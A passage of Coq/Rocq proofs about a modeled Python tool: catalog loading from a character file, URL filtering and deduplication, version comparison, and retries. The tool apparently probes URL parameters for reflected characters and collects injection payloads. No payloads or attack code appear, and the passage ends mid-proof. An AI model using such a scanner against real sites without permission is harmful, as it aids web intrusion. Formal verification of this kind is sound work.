(** X17. The catalog [load_from_file] returns is never empty and has
    distinct group names. Either it is the built-in catalog, or it was read
    from the file: then no group has a character twice, and the group whose
    name is empty, if there is one, has no character. The lines of the file
    are those of a [str]: none begins in the middle of a code point. *)
Theorem load_from_file_catalog (lower : string → string)
    (open_lines : string → result (list string)) (file_path : option string) :
  (∀ path lines, open_lines path = Ok lines →
                 Forall (λ line, starts_with_continuation line = false) lines) →
  load_from_file lower open_lines file_path ≠ []
  ∧ NoDup (map fst (load_from_file lower open_lines file_path))
  ∧ (load_from_file lower open_lines file_path = default_char_groups
     ∨ Forall (λ kv, NoDup (chars (snd kv)) ∧ (fst kv = "" → snd kv = ""))
         (load_from_file lower open_lines file_path)).
Proof.
  intros Hstr.
  assert (default_char_groups ≠ []
          ∧ NoDup (map fst default_char_groups)
          ∧ (default_char_groups = default_char_groups
             ∨ Forall (λ kv, NoDup (chars (snd kv)) ∧ (fst kv = "" → snd kv = ""))
                 default_char_groups)) as Hdefault.
  { split; [done|]. split; [compute_done|by left]. }
  unfold load_from_file.
  destruct file_path as [path|]; [|exact Hdefault].
  destruct (negb (truthy path)); [exact Hdefault|].
  destruct (open_lines path) as [lines|e] eqn:Hopen; [|exact Hdefault].
  cbn.
  destruct (load_lines lower lines [] None) as [custom_chars|e] eqn:Hrun;
    [|exact Hdefault].
  destruct custom_chars as [|kv custom_chars]; [exact Hdefault|].
  apply (load_lines_ok lower) in Hrun as [Hkeys Hgroups];
    [|by eapply Hstr|split; constructor].
  split; [done|]. split; [done|]. right.
  eapply Forall_impl; [exact Hgroups|].
  intros kv' (Hnodup & _ & Hempty). by split.
Qed.

(** The catalog of [special_file]: the header is stripped and lower-cased,
    and the six characters of the two lines give the four of the group. *)
Lemma load_from_file_catalog_witness :
  load_from_file ascii_lower open_files (Some "special.txt") ≠ []
  ∧ NoDup (map fst (load_from_file ascii_lower open_files (Some "special.txt")))
  ∧ (load_from_file ascii_lower open_files (Some "special.txt")
     = default_char_groups
     ∨ Forall (λ kv, NoDup (chars (snd kv)) ∧ (fst kv = "" → snd kv = ""))
         (load_from_file ascii_lower open_files (Some "special.txt"))).
Proof.
  apply (load_from_file_catalog ascii_lower open_files (Some "special.txt")).
  intros path lines. unfold open_files.
  destruct (String.eqb path "special.txt");
    [intros [= <-]; by repeat constructor|].
  destruct (String.eqb path "headless.txt");
    [intros [= <-]; by repeat constructor|done].
Defined.

(** X18. When the built-in catalog is used: without a path, with the empty
    path, with a file that cannot be opened or read, and with a file that
    has no group header, whatever characters it lists. *)
Theorem load_from_file_fallback (lower : string → string)
    (open_lines : string → result (list string)) (path : string) :
  load_from_file lower open_lines None = default_char_groups
  ∧ load_from_file lower open_lines (Some "") = default_char_groups
  ∧ (∀ e, open_lines path = Raise e →
          load_from_file lower open_lines (Some path) = default_char_groups)
  ∧ (∀ lines, open_lines path = Ok lines →
              Forall (λ line, is_header (strip line) = false) lines →
              load_from_file lower open_lines (Some path)
              = default_char_groups).
Proof.
  split; [done|]. split; [done|]. unfold load_from_file.
  destruct (negb (truthy path)); [by repeat split|]. split.
  - by intros e ->.
  - intros lines -> Hlines. cbn. by rewrite load_lines_headless.
Qed.

(** The four characters of [headless_file] are ignored. *)
Lemma load_from_file_fallback_witness :
  load_from_file ascii_lower open_files (Some "missing.txt")
  = default_char_groups
  ∧ load_from_file ascii_lower open_files (Some "headless.txt")
    = default_char_groups.
Proof.
  split.
  - by apply (load_from_file_fallback ascii_lower open_files "missing.txt")
      with (e := OSError).
  - apply (load_from_file_fallback ascii_lower open_files "headless.txt")
      with (lines := headless_file); [done|compute_done].
Defined.

(** X19. A character file that has a group header and none named [basic]
    leaves the analyzer without the group its gate reads: the analysis of
    every parameter raises, and the output file of the run is empty,
    whatever the URLs and the server. *)
Theorem custom_catalog_without_basic (E : Env) (lower : string → string)
    (open_lines : string → result (list string)) (path : string)
    (lines urls : list string) (w : world) :
  truthy path = true →
  open_lines path = Ok lines →
  Exists (λ line, is_header (strip line) = true) lines →
  Forall (λ line, is_header (strip line) = true →
                  header_name lower (strip line) ≠ "basic") lines →
  char_groups E = load_from_file lower open_lines (Some path) →
  getitem (char_groups E) "basic" = Raise (KeyError "basic")
  ∧ output_file E urls w = ("", w).
Proof.
  intros Hpath Hopen Hheader Hnames Hgroups.
  assert (getitem (char_groups E) "basic" = Raise (KeyError "basic"))
    as Hbasic.
  { rewrite Hgroups. unfold load_from_file. rewrite Hpath, Hopen. cbn.
    destruct (load_lines_returns lower lines [] None) as [custom_chars Hrun];
      [done|].
    rewrite Hrun.
    pose proof (load_lines_not_nil lower _ _ _ _ Hrun (or_intror Hheader))
      as Hnil.
    pose proof (load_lines_keys lower (λ key, key ≠ "basic") _ _ _ _
                  Hrun Hnames (Forall_nil_2 _)) as Hkeys.
    destruct custom_chars as [|kv custom_chars]; [done|].
    apply getitem_no_key. intros Hin.
    rewrite Forall_forall in Hkeys. by apply (Hkeys "basic"). }
  split; [exact Hbasic|].
  unfold output_file, bind, ret.
  by rewrite (collect_missing_basic E urls ∅ w _ Hbasic).
Qed.

(** The page of [special_env] echoes everything, and gets nothing. *)
Lemma custom_catalog_without_basic_witness :
  getitem (char_groups special_env) "basic" = Raise (KeyError "basic")
  ∧ output_file special_env [page_url] still_world = ("", still_world).
Proof.
  apply (custom_catalog_without_basic special_env ascii_lower open_files
           "special.txt" special_file).
  - reflexivity.
  - reflexivity.
  - compute_done.
  - compute_done.
  - reflexivity.
Defined.

(** ** The filter of the URL list *)

Section FilterProperties.

Variable urlparse : string → result ParseResult.t.
Variable parse_qs : string → result (list string).
Variable is_word : string → bool.

(** One turn of the loop, by the pattern of the stripped URL. *)
Lemma filter_step_spec (filtered : list string)
    (seen_patterns : gset (string * gset string)) (no_params_count : Z)
    (url : string) :
  filter_step urlparse parse_qs is_word
    (filtered, seen_patterns, no_params_count) url
  = match pattern_of urlparse parse_qs is_word (strip url) with
    | Some pattern =>
        if bool_decide (pattern ∈ seen_patterns)
        then (filtered, seen_patterns, no_params_count)
        else (filtered ++ [strip url], {[ pattern ]} ∪ seen_patterns,
              no_params_count)
    | None =>
        (filtered, seen_patterns,
         if without_params urlparse is_word (strip url)
         then (no_params_count + 1)%Z else no_params_count)
    end.
Proof.
  unfold filter_step, pattern_of, without_params. cbv zeta.
  destruct (truthy (strip url)); cbn [negb orb andb]; [|done].
  destruct (url_pattern_match (strip url)); cbn [negb orb andb]; [|done].
  destruct (mostly_special is_word (strip url)); cbn [negb orb andb]; [done|].
  destruct (urlparse (strip url)) as [parsed|e]; [|done].
  destruct (truthy (ParseResult.query parsed)); cbn [negb]; [|done].
  by destruct (parse_qs (ParseResult.query parsed)).
Qed.

(** What a URL with a pattern has passed. *)
Lemma pattern_of_Some (url : string) (pattern : string * gset string) :
  pattern_of urlparse parse_qs is_word url = Some pattern →
  url_pattern_match url = true
  ∧ without_params urlparse is_word url = false
  ∧ ∃ parsed params,
      urlparse url = Ok parsed
      ∧ ParseResult.query parsed ≠ ""
      ∧ parse_qs (ParseResult.query parsed) = Ok params
      ∧ pattern = (base_url parsed, list_to_set params).
Proof.
  unfold pattern_of, without_params.
  destruct (truthy url); cbn [negb orb andb]; [|done].
  destruct (url_pattern_match url); cbn [negb orb andb]; [|done].
  destruct (mostly_special is_word url); cbn [negb orb andb]; [done|].
  destruct (urlparse url) as [parsed|e]; [|done].
  destruct (truthy (ParseResult.query parsed)) eqn:Hquery; cbn [negb];
    [|done].
  destruct (parse_qs (ParseResult.query parsed)) as [params|e] eqn:Hparams;
    [|done].
  intros [= <-]. split; [done|]. split; [done|].
  exists parsed, params. split; [done|]. split; [|done].
  unfold truthy in Hquery. apply negb_true_iff in Hquery.
  by apply String.eqb_neq.
Qed.

Lemma filter_count_app (processed : list string) (url : string) :
  Z.of_nat (length (filter (λ url, without_params urlparse is_word (strip url) = true)
                      (processed ++ [url])))
  = (Z.of_nat (length (filter (λ url, without_params urlparse is_word (strip url) = true)
                         processed))
     + if without_params urlparse is_word (strip url) then 1 else 0)%Z.
Proof.
  rewrite filter_app, length_app, filter_cons, filter_nil.
  destruct (without_params urlparse is_word (strip url)) eqn:Hurl.
  - rewrite decide_True by done. cbn. lia.
  - rewrite decide_False by done. cbn. lia.
Qed.

Lemma filter_inv_nil :
  filter_inv urlparse parse_qs is_word [] ([], ∅, 0%Z).
Proof.
  split; [constructor|]. split; [constructor|]. split; [done|].
  split; [constructor|]. split; [done|].
  intros url pattern Hurl. by apply elem_of_nil in Hurl.
Qed.

Lemma filter_step_inv (processed : list string)
    (state : list string * gset (string * gset string) * Z) (url : string) :
  filter_inv urlparse parse_qs is_word processed state →
  filter_inv urlparse parse_qs is_word (processed ++ [url])
    (filter_step urlparse parse_qs is_word state url).
Proof.
  destruct state as [[filtered seen_patterns] no_params_count].
  rewrite filter_step_spec.
  intros (Hkept & Hnodup & Hseen & Hsub & Hcount & Hall).
  assert (filtered `sublist_of` map strip (processed ++ [url])) as Hsub'.
  { rewrite map_app. by apply sublist_inserts_r. }
  pose proof (filter_count_app processed url) as Hcount'.
  destruct (pattern_of urlparse parse_qs is_word (strip url))
    as [pattern|] eqn:Hpattern.
  - destruct (pattern_of_Some _ _ Hpattern) as (_ & Hwithout & _).
    rewrite Hwithout in Hcount'.
    case_bool_decide as Hin.
    + split; [done|]. split; [done|]. split; [done|]. split; [done|].
      split; [lia|].
      intros url' pattern' [Hurl|Hurl]%elem_of_app; [by eapply Hall|].
      apply list_elem_of_singleton in Hurl as ->. rewrite Hpattern.
      by intros [= <-].
    + assert (omap (pattern_of urlparse parse_qs is_word) (filtered ++ [strip url])
              = omap (pattern_of urlparse parse_qs is_word) filtered ++ [pattern])
        as Homap.
      { rewrite omap_app. cbn. by rewrite Hpattern. }
      split; [|split; [|split; [|split; [|split]]]].
      * apply Forall_app. split; [done|]. constructor; [|done].
        split; [apply strip_idemp|]. rewrite Hpattern. by eexists.
      * rewrite Homap. apply NoDup_app. split; [done|].
        split; [|apply NoDup_singleton].
        intros pattern' Hpattern' Hnew.
        apply list_elem_of_singleton in Hnew as ->. apply Hin.
        rewrite Hseen. by apply elem_of_list_to_set.
      * rewrite Homap, list_to_set_app_L, <- Hseen. cbn [list_to_set].
        rewrite (right_id_L ∅ (∪)). apply (comm_L (∪)).
      * rewrite map_app. by apply sublist_app.
      * lia.
      * intros url' pattern' [Hurl|Hurl]%elem_of_app.
        -- intros Hp. apply elem_of_union. right. by eapply Hall.
        -- apply list_elem_of_singleton in Hurl as ->. rewrite Hpattern.
           intros [= <-]. apply elem_of_union. left.
           by apply elem_of_singleton.
  - split; [done|]. split; [done|]. split; [done|]. split; [done|]. split.
    + destruct (without_params urlparse is_word (strip url)); lia.
    + intros url' pattern' [Hurl|Hurl]%elem_of_app; [by eapply Hall|].
      apply list_elem_of_singleton in Hurl as ->. by rewrite Hpattern.
Qed.

Lemma filter_fold_inv (urls processed : list string)
    (state : list string * gset (string * gset string) * Z) :
  filter_inv urlparse parse_qs is_word processed state →
  filter_inv urlparse parse_qs is_word (processed ++ urls)
    (foldl (filter_step urlparse parse_qs is_word) state urls).
Proof.
  revert processed state.
  induction urls as [|url urls IH]; intros processed state Hinv.
  - by rewrite app_nil_r.
  - cbn [foldl]. rewrite cons_middle, app_assoc. apply IH.
    by apply filter_step_inv.
Qed.

(** The loop on URLs that were kept: each is kept again. *)
Lemma filter_fold_kept (urls filtered : list string) (no_params_count : Z) :
  Forall (λ url, strip url = url
                 ∧ is_Some (pattern_of urlparse parse_qs is_word url)) urls →
  NoDup (omap (pattern_of urlparse parse_qs is_word) (filtered ++ urls)) →
  foldl (filter_step urlparse parse_qs is_word)
    (filtered,
     list_to_set (omap (pattern_of urlparse parse_qs is_word) filtered),
     no_params_count)
    urls
  = (filtered ++ urls,
     list_to_set (omap (pattern_of urlparse parse_qs is_word) (filtered ++ urls)),
     no_params_count).
Proof.
  intros Hurls. revert filtered.
  induction Hurls as [|url urls [Hstrip [pattern Hpattern]] Hurls IH];
    intros filtered Hnodup.
  - by rewrite app_nil_r.
  - cbn [foldl]. rewrite filter_step_spec, Hstrip, Hpattern.
    assert (omap (pattern_of urlparse parse_qs is_word) (filtered ++ [url])
            = omap (pattern_of urlparse parse_qs is_word) filtered ++ [pattern])
      as Homap.
    { rewrite omap_app. cbn. by rewrite Hpattern. }
    assert (NoDup (omap (pattern_of urlparse parse_qs is_word)
                     ((filtered ++ [url]) ++ urls))) as Hnodup'
      by (by rewrite <- app_assoc).
    rewrite bool_decide_eq_false_2.
    + replace ({[pattern]}
               ∪ list_to_set (omap (pattern_of urlparse parse_qs is_word) filtered))
        with (list_to_set (C := gset (string * gset string))
                (omap (pattern_of urlparse parse_qs is_word) (filtered ++ [url]))).
      * rewrite (IH (filtered ++ [url]) Hnodup'). by rewrite <- app_assoc.
      * rewrite Homap, list_to_set_app_L. cbn [list_to_set].
        rewrite (right_id_L ∅ (∪)). apply (comm_L (∪)).
    + rewrite elem_of_list_to_set. intros Hin.
      rewrite omap_app, Homap in Hnodup'.
      apply NoDup_app in Hnodup' as [Hnodup' _].
      apply NoDup_app in Hnodup' as (_ & Hfresh & _).
      apply (Hfresh pattern Hin). apply list_elem_of_here.
Qed.

End FilterProperties.

(** X20. What [filter_urls] returns. The URLs kept are stripped URLs of the
    list, in the order of the list; each begins with [http://] or
    [https://], is parsed and has a query; no two have the same base and
    the same set of parameter names, and every URL of the list that passes
    the checks has its base and names in common with a URL kept. The count
    is that of the URLs that pass the checks on their text, are parsed and
    have an empty query. *)
Theorem filter_urls_kept (urlparse : string → result ParseResult.t)
    (parse_qs : string → result (list string)) (is_word : string → bool)
    (urls : list string) :
  Forall (λ url, strip url = url
                 ∧ url_pattern_match url = true
                 ∧ ∃ parsed, urlparse url = Ok parsed
                             ∧ ParseResult.query parsed ≠ "")
    (fst (filter_urls urlparse parse_qs is_word urls))
  ∧ fst (filter_urls urlparse parse_qs is_word urls)
    `sublist_of` map strip urls
  ∧ NoDup (omap (pattern_of urlparse parse_qs is_word)
             (fst (filter_urls urlparse parse_qs is_word urls)))
  ∧ (∀ url pattern,
       url ∈ urls →
       pattern_of urlparse parse_qs is_word (strip url) = Some pattern →
       ∃ kept, kept ∈ fst (filter_urls urlparse parse_qs is_word urls)
               ∧ pattern_of urlparse parse_qs is_word kept = Some pattern)
  ∧ snd (filter_urls urlparse parse_qs is_word urls)
    = Z.of_nat (length (filter (λ url, without_params urlparse is_word
                                         (strip url) = true) urls)).
Proof.
  pose proof (filter_fold_inv urlparse parse_qs is_word urls [] ([], ∅, 0%Z))
    as Hinv.
  unfold filter_urls. cbn [app] in Hinv.
  destruct (foldl (filter_step urlparse parse_qs is_word) ([], ∅, 0%Z) urls)
    as [[filtered seen_patterns] no_params_count].
  specialize (Hinv (filter_inv_nil urlparse parse_qs is_word)).
  destruct Hinv as (Hkept & Hnodup & Hseen & Hsub & Hcount & Hall).
  cbn [fst snd]. split; [|split; [done|split; [done|split; [|done]]]].
  - eapply Forall_impl; [exact Hkept|]. intros url [Hstrip [pattern Hpattern]].
    destruct (pattern_of_Some _ _ _ _ _ Hpattern)
      as (Hmatch & _ & parsed & params & Hparsed & Hquery & _).
    split; [done|]. split; [done|]. by exists parsed.
  - intros url pattern Hurl Hpattern.
    specialize (Hall url pattern Hurl Hpattern).
    rewrite Hseen, elem_of_list_to_set in Hall.
    apply list_elem_of_omap in Hall as (kept & Hkept' & Hpattern').
    by exists kept.
Qed.

(** X21. [filter_urls] is idempotent: on the list it returned it returns
    the same list, and counts no URL without parameters. *)
Theorem filter_urls_idempotent (urlparse : string → result ParseResult.t)
    (parse_qs : string → result (list string)) (is_word : string → bool)
    (urls : list string) :
  filter_urls urlparse parse_qs is_word
    (fst (filter_urls urlparse parse_qs is_word urls))
  = (fst (filter_urls urlparse parse_qs is_word urls), 0%Z).
Proof.
  pose proof (filter_fold_inv urlparse parse_qs is_word urls [] ([], ∅, 0%Z))
    as Hinv.
  unfold filter_urls at 2 3. cbn [app] in Hinv.
  destruct (foldl (filter_step urlparse parse_qs is_word) ([], ∅, 0%Z) urls)
    as [[filtered seen_patterns] no_params_count].
  specialize (Hinv (filter_inv_nil urlparse parse_qs is_word)).
  destruct Hinv as (Hkept & Hnodup & _).
  cbn [fst]. unfold filter_urls.
  assert (foldl (filter_step urlparse parse_qs is_word) ([], ∅, 0%Z) filtered
          = (filtered,
             list_to_set (omap (pattern_of urlparse parse_qs is_word) filtered),
             0%Z)) as Hfold
    by exact (filter_fold_kept urlparse parse_qs is_word filtered [] 0%Z
                Hkept Hnodup).
  by rewrite Hfold.
Qed.

(** ** The comparison of versions *)

Lemma component_pad (parts : list Z) (n j : nat) :
  component (pad parts n) j = component parts j.
Proof.
  unfold component, pad.
  destruct (decide (j < length parts)%nat) as [Hlt|Hge].
  - by rewrite app_nth1.
  - rewrite app_nth2 by lia. rewrite nth_repeat.
    by rewrite nth_overflow by lia.
Qed.

Lemma length_pad (parts : list Z) (n : nat) :
  length (pad parts n) = max (length parts) n.
Proof. unfold pad. rewrite length_app, repeat_length. lia. Qed.

Lemma newer_at_pad (parts1 parts2 : list Z) (n m i : nat) :
  newer_at (pad parts1 n) (pad parts2 m) i ↔ newer_at parts1 parts2 i.
Proof. unfold newer_at. by setoid_rewrite component_pad. Qed.

(** The order of Python on two lists of the same length. *)
Lemma list_gt_newer_at (l1 l2 : list Z) :
  length l1 = length l2 →
  list_gt l1 l2 = true ↔ ∃ i, newer_at l1 l2 i.
Proof.
  revert l2. induction l1 as [|x l1 IH]; intros [|y l2] Hlen; try done.
  - split; [done|]. intros (i & _ & Hi). unfold component in Hi.
    destruct i; cbn in Hi; lia.
  - cbn [list_gt]. injection Hlen as Hlen.
    destruct (Z.eqb_spec x y) as [->|Hne].
    + rewrite (IH l2 Hlen). split.
      * intros (i & Hprefix & Hi). exists (S i). split; [|done].
        intros [|j] Hj; [done|]. apply Hprefix. lia.
      * intros ([|i] & Hprefix & Hi);
          [unfold component in Hi; cbn in Hi; lia|].
        exists i. split; [|done]. intros j Hj. apply (Hprefix (S j)). lia.
    + rewrite Z.ltb_lt. split.
      * intros Hlt. exists 0%nat. split; [intros j Hj; lia|done].
      * intros ([|i] & Hprefix & Hi); [done|].
        specialize (Hprefix 0%nat ltac:(lia)).
        unfold component in Hprefix. cbn in Hprefix. done.
Qed.

Section VersionProperties.

Variable int : string → result Z.

Lemma compare_versions_parts (v1 v2 : string) (parts1 parts2 : list Z) :
  parts_of int v1 = Ok parts1 →
  parts_of int v2 = Ok parts2 →
  _compare_versions int v1 v2 = true ↔ ∃ i, newer_at parts1 parts2 i.
Proof.
  unfold parts_of, _compare_versions. intros -> ->. cbn.
  rewrite list_gt_newer_at by (rewrite !length_pad; lia).
  by setoid_rewrite newer_at_pad.
Qed.

Lemma compare_versions_parses (v1 v2 : string) :
  _compare_versions int v1 v2 = true →
  ∃ parts1 parts2, parts_of int v1 = Ok parts1 ∧ parts_of int v2 = Ok parts2.
Proof.
  unfold parts_of, _compare_versions.
  destruct (mapM int (split_dots v1)) as [parts1|e]; [|done].
  destruct (mapM int (split_dots v2)) as [parts2|e]; [|done].
  by exists parts1, parts2.
Qed.

Lemma compare_versions_unparsed (v1 v2 : string) (e : exn) :
  parts_of int v1 = Raise e ∨ parts_of int v2 = Raise e →
  _compare_versions int v1 v2 = false.
Proof.
  unfold parts_of, _compare_versions. intros [-> | ->]; [done|].
  by destruct (mapM int (split_dots v1)).
Qed.

End VersionProperties.

(** X22. [_compare_versions] on two versions that are parsed: the first is
    newer exactly when it is above the second at the first component where
    they differ, a missing component counting as 0. *)
Theorem compare_versions_first_difference (int : string → result Z)
    (v1 v2 : string) (parts1 parts2 : list Z) :
  parts_of int v1 = Ok parts1 →
  parts_of int v2 = Ok parts2 →
  _compare_versions int v1 v2 = true ↔ ∃ i, newer_at parts1 parts2 i.
Proof.
  unfold parts_of, _compare_versions. intros -> ->. cbn.
  rewrite list_gt_newer_at by (rewrite !length_pad; lia).
  by setoid_rewrite newer_at_pad.
Qed.

(** The components are compared as numbers: 1.10 is newer than 1.9. *)
Lemma compare_versions_first_difference_witness :
  _compare_versions int_of_digits "1.10" "1.9" = true
  ↔ ∃ i, newer_at [1; 10]%Z [1; 9]%Z i.
Proof.
  apply (compare_versions_first_difference int_of_digits "1.10" "1.9");
    reflexivity.
Defined.

(** X23. [_compare_versions] is a strict order that does not see trailing
    zero components: no version is newer than itself, two versions are
    never each newer than the other, newer than newer is newer, and two
    versions with the same components, 0 for the missing ones, are not
    newer than one another. A version that is not parsed is neither newer
    nor older than anything. *)
Theorem compare_versions_strict_order (int : string → result Z) :
  (∀ v, _compare_versions int v v = false)
  ∧ (∀ v1 v2, _compare_versions int v1 v2 = true →
              _compare_versions int v2 v1 = false)
  ∧ (∀ v1 v2 v3, _compare_versions int v1 v2 = true →
                 _compare_versions int v2 v3 = true →
                 _compare_versions int v1 v3 = true)
  ∧ (∀ v1 v2 parts1 parts2,
       parts_of int v1 = Ok parts1 → parts_of int v2 = Ok parts2 →
       (∀ i, component parts1 i = component parts2 i) →
       _compare_versions int v1 v2 = false)
  ∧ (∀ v1 v2 e, parts_of int v1 = Raise e →
                _compare_versions int v1 v2 = false
                ∧ _compare_versions int v2 v1 = false).
Proof.
  split; [|split; [|split; [|split]]].
  - intros v. destruct (parts_of int v) as [parts|e] eqn:Hparts.
    + apply not_true_iff_false.
      rewrite (compare_versions_parts int v v parts parts Hparts Hparts).
      intros (i & _ & Hi). lia.
    + apply (compare_versions_unparsed int v v e). by left.
  - intros v1 v2 Hnewer.
    destruct (compare_versions_parses int v1 v2 Hnewer)
      as (parts1 & parts2 & Hparts1 & Hparts2).
    destruct (proj1 (compare_versions_parts int v1 v2 parts1 parts2
                       Hparts1 Hparts2) Hnewer) as (i & Hprefix & Hi).
    apply not_true_iff_false.
    rewrite (compare_versions_parts int v2 v1 parts2 parts1 Hparts2 Hparts1).
    intros (i' & Hprefix' & Hi').
    destruct (Nat.lt_trichotomy i i') as [Hlt|[->|Hgt]].
    + specialize (Hprefix' i Hlt). lia.
    + lia.
    + specialize (Hprefix i' Hgt). lia.
  - intros v1 v2 v3 Hnewer12 Hnewer23.
    destruct (compare_versions_parses int v1 v2 Hnewer12)
      as (parts1 & parts2 & Hparts1 & Hparts2).
    destruct (compare_versions_parses int v2 v3 Hnewer23)
      as (parts2' & parts3 & Hparts2' & Hparts3).
    rewrite Hparts2 in Hparts2'. injection Hparts2' as <-.
    destruct (proj1 (compare_versions_parts int v1 v2 parts1 parts2
                       Hparts1 Hparts2) Hnewer12) as (i & Hprefix & Hi).
    destruct (proj1 (compare_versions_parts int v2 v3 parts2 parts3
                       Hparts2 Hparts3) Hnewer23) as (k & Hprefix' & Hk).
    apply (compare_versions_parts int v1 v3 parts1 parts3 Hparts1 Hparts3).
    destruct (Nat.lt_trichotomy i k) as [Hlt|[->|Hgt]].
    + exists i. split.
      * intros j Hj. rewrite (Hprefix j Hj). apply Hprefix'. lia.
      * rewrite <- (Hprefix' i Hlt). done.
    + exists k. split.
      * intros j Hj. rewrite (Hprefix j Hj). by apply Hprefix'.
      * lia.
    + exists k. split.
      * intros j Hj. rewrite (Hprefix j ltac:(lia)). by apply Hprefix'.
      * rewrite (Hprefix k Hgt). done.
  - intros v1 v2 parts1 parts2 Hparts1 Hparts2 Hsame.
    apply not_true_iff_false.
    rewrite (compare_versions_parts int v1 v2 parts1 parts2 Hparts1 Hparts2).
    intros (i & _ & Hi). rewrite (Hsame i) in Hi. lia.
  - intros v1 v2 e Hparts. split.
    + apply (compare_versions_unparsed int v1 v2 e). by left.
    + apply (compare_versions_unparsed int v2 v1 e). by right.
Qed.

(** ** The clock and the order of the URLs *)

Section ClockProperties.

Variable E : Env.

(** The clock is read by the caches of the quick tests only, and their
    answers do not depend on it. *)
Lemma analyze_parameter_world (url param : string) (w w' : world) :
  fst (analyze_parameter E url param w) = fst (analyze_parameter E url param w').
Proof.
  unfold analyze_parameter, bind, ret.
  destruct (console_print E (status_line param)) as [[]|e]; [|done].
  destruct (getitem (char_groups E) "basic") as [basic|e]; [|done].
  cbv beta iota zeta.
  destruct (gather_probes E url param _) as [initial_results|e]; [|done].
  destruct (negb (any initial_results)); [done|].
  destruct (sweep_groups E url param (char_groups E) ∅) as [results|e];
    [|done].
  cbv beta iota zeta.
  pose proof (quick_test_scripts_spec E url param w) as Hscripts.
  pose proof (quick_test_scripts_spec E url param w') as Hscripts'.
  destruct (quick_test_scripts E url param w) as [scripts w1].
  destruct (quick_test_scripts E url param w') as [scripts' w1'].
  pose proof (quick_test_events_spec E url param w1) as Hevents.
  pose proof (quick_test_events_spec E url param w1') as Hevents'.
  destruct (quick_test_events E url param w1) as [events w2].
  destruct (quick_test_events E url param w1') as [events' w2'].
  pose proof (quick_test_length_two_values E url param w2) as Hlength.
  pose proof (quick_test_length_two_values E url param w2') as Hlength'.
  destruct (quick_test_length E url param w2) as [length_ w3].
  destruct (quick_test_length E url param w2') as [length_' w3'].
  cbn [fst] in *. by subst.
Qed.

Lemma analyze_params_world (url : string) (params : list string)
    (results : list (string * list string)) (w w' : world) :
  fst (analyze_params E url params results w)
  = fst (analyze_params E url params results w').
Proof.
  revert results w w'.
  induction params as [|param rest IH]; intros results w w'; [done|].
  cbn [analyze_params]. unfold bind.
  pose proof (analyze_parameter_world url param w w') as Hparam.
  destruct (analyze_parameter E url param w) as [r w1].
  destruct (analyze_parameter E url param w') as [r' w1'].
  cbn [fst] in Hparam. subst r'. destruct r as [analysis|e]; [|done].
  apply IH.
Qed.

Lemma analyze_url_world (url : string) (w w' : world) :
  fst (analyze_url E url w) = fst (analyze_url E url w').
Proof.
  unfold analyze_url.
  destruct (extract_parameters E url) as [|kv params]; [done|].
  unfold bind, ret.
  pose proof (analyze_params_world url (map fst (kv :: params)) [] w w')
    as Hparams.
  destruct (analyze_params E url (map fst (kv :: params)) [] w) as [r w1].
  destruct (analyze_params E url (map fst (kv :: params)) [] w') as [r' w1'].
  cbn [fst] in Hparams. subst r'. by destruct r.
Qed.

Lemma foldl_update_union (lists : list (list string))
    (unique_payloads : gset string) :
  foldl (λ unique param_payloads, unique ∪ list_to_set param_payloads)
    unique_payloads lists
  = unique_payloads
    ∪ foldl (λ unique param_payloads, unique ∪ list_to_set param_payloads)
        ∅ lists.
Proof.
  revert unique_payloads.
  induction lists as [|l lists IH]; intros unique_payloads; cbn [foldl].
  - by rewrite (right_id_L ∅ (∪)).
  - rewrite (IH (unique_payloads ∪ list_to_set l)), (IH (∅ ∪ list_to_set l)).
    rewrite (left_id_L ∅ (∪)). symmetry. apply (assoc_L (∪)).
Qed.

(** A run accumulates what each of its URLs contributes. *)
Lemma collect_union (urls : list string) (unique_payloads : gset string)
    (w : world) :
  fst (collect E urls unique_payloads w)
  = unique_payloads ∪ ⋃ (map (url_payloads E) urls).
Proof.
  revert unique_payloads w.
  induction urls as [|url rest IH]; intros unique_payloads w.
  - cbn. by rewrite (right_id_L ∅ (∪)).
  - cbn [collect]. unfold bind.
    pose proof (analyze_url_world url w still_world) as Hurl.
    destruct (analyze_url E url w) as [result w1]. cbn [fst] in Hurl.
    rewrite IH, foldl_update_union, Hurl. cbn [map union_list].
    fold (url_payloads E url). symmetry. apply (assoc_L (∪)).
Qed.

End ClockProperties.

(** X24. What a run writes depends on the set of its URLs only: the clock,
    the order of the URLs and their repetitions do not change the output
    file. *)
Theorem output_file_of_url_set (E : Env) (urls1 urls2 : list string)
    (w1 w2 : world) :
  (∀ url, url ∈ urls1 ↔ url ∈ urls2) →
  fst (output_file E urls1 w1) = fst (output_file E urls2 w2).
Proof.
  intros Hurls. unfold output_file, bind, ret.
  pose proof (collect_union E urls1 ∅ w1) as Hrun1.
  pose proof (collect_union E urls2 ∅ w2) as Hrun2.
  destruct (collect E urls1 ∅ w1) as [unique1 w1'].
  destruct (collect E urls2 ∅ w2) as [unique2 w2'].
  cbn [fst] in *. rewrite (left_id_L ∅ (∪)) in Hrun1, Hrun2.
  subst unique1 unique2. do 2 f_equal.
  apply set_eq. intros p. rewrite !elem_of_union_list.
  split; intros (X & HX & Hp); exists X; (split; [|done]);
    apply list_elem_of_fmap in HX as (url & -> & Hurl);
    apply list_elem_of_fmap; exists url; (split; [done|]); by apply Hurls.
Qed.

(** A URL given twice, on a later day. *)
Lemma output_file_of_url_set_witness :
  fst (output_file silent_env [page_url; page_url] still_world)
  = fst (output_file silent_env [page_url]
           (World (λ n, inject_Z (86400 + Z.of_nat n)) 0)).
Proof.
  apply (output_file_of_url_set silent_env [page_url; page_url] [page_url]).
  intros url. rewrite !elem_of_cons, elem_of_nil. tauto.
Defined.

(** ** Retries *)

Section RetryProperties.

Variable attempt_text : nat → result string.

Lemma retry_from_S (max_retries : Z) (delay : Q) (attempt remaining : nat) :
  retry_from attempt_text max_retries delay attempt (S remaining)
  = match attempt_text attempt with
    | Ok text_ => (Ok text_, [])
    | Raise e =>
        if (Z.of_nat attempt =? max_retries - 1)%Z then (Raise e, [])
        else
          let '(r, sleeps) :=
            retry_from attempt_text max_retries delay (S attempt) remaining in
          (r, (delay * inject_Z (Z.of_nat attempt + 1))%Q :: sleeps)
    end.
Proof. reflexivity. Qed.

Lemma retry_from_success (max_retries : Z) (delay : Q)
    (remaining attempt k : nat) (text_ : string) :
  (attempt ≤ k < attempt + remaining)%nat →
  Z.of_nat (attempt + remaining) = max_retries →
  (∀ j, (attempt ≤ j < k)%nat → ∃ e, attempt_text j = Raise e) →
  attempt_text k = Ok text_ →
  retry_from attempt_text max_retries delay attempt remaining
  = (Ok text_, backoff delay attempt (k - attempt)).
Proof.
  revert attempt.
  induction remaining as [|remaining IH]; intros attempt Hk Hmax Hfail Hok;
